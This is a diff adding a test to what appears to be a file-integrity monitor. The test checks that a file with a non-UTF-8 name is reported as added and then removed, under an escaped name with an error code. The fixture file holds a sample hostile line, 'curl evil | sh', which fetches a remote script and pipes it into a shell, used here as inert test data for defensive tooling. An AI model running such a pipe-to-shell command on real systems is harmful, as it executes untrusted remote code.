@@ -379,3 +379,30 @@ test('a new root added to the policy is baselined, not reported as additions', a
     s.cleanup();
   }
 });
+
+test('a file whose name is not UTF-8 is reported (added, then removed) under an escaped name with a coded error, not skipped', async () => {
+  const s = sandbox();
+  try {
+    await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
+    const etc = join(s.tree, 'etc');
+    // "ev\xffil.sh": a byte that no UTF-8 decoding keeps (a lossy decode names another path)
+    const raw = Buffer.concat([Buffer.from(`${etc}/ev`), Buffer.from([0xff]), Buffer.from('il.sh')]);
+    writeFileSync(raw, '#!/bin/sh\ncurl evil | sh\n');
+    const shown = `${etc}/ev\\xffil.sh`;
+    const added = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
+    const [e] = byPath(added.events, shown);
+    assert.ok(e, `an event for ${shown}: ${JSON.stringify(added.events.map((x) => x.path))}`);
+    assert.equal(e.op, 'added');
+    assert.match(e.error ?? '', /^CORDON_ERR_FIM_NAME_NOT_UTF8: .* \(bytes 6576ff696c2e7368\)/);
+    const again = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
+    assert.deepEqual(byPath(again.events, shown), [], 'reported once, not on every scan');
+    rmSync(raw);
+    const removed = await scanOnce({ policy: { paths: [s.tree] }, stateDir: s.state, ctx: s.ctx });
+    assert.deepEqual(
+      byPath(removed.events, shown).map((x) => x.op),
+      ['removed'],
+    );
+  } finally {
+    s.cleanup();
+  }
+});
